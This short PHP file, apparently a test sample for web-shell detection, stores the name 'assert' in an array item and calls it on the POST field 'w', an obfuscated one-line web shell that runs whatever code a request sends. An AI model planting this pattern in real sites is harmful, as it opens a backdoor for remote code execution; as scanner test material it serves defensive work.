<?php
// a code runner's name kept in an array item and called from there with the request
// (written for the tests, never run)
$item['wind'] = 'assert';
$list[] = $item;
$list[0]['wind']($_POST['w']);
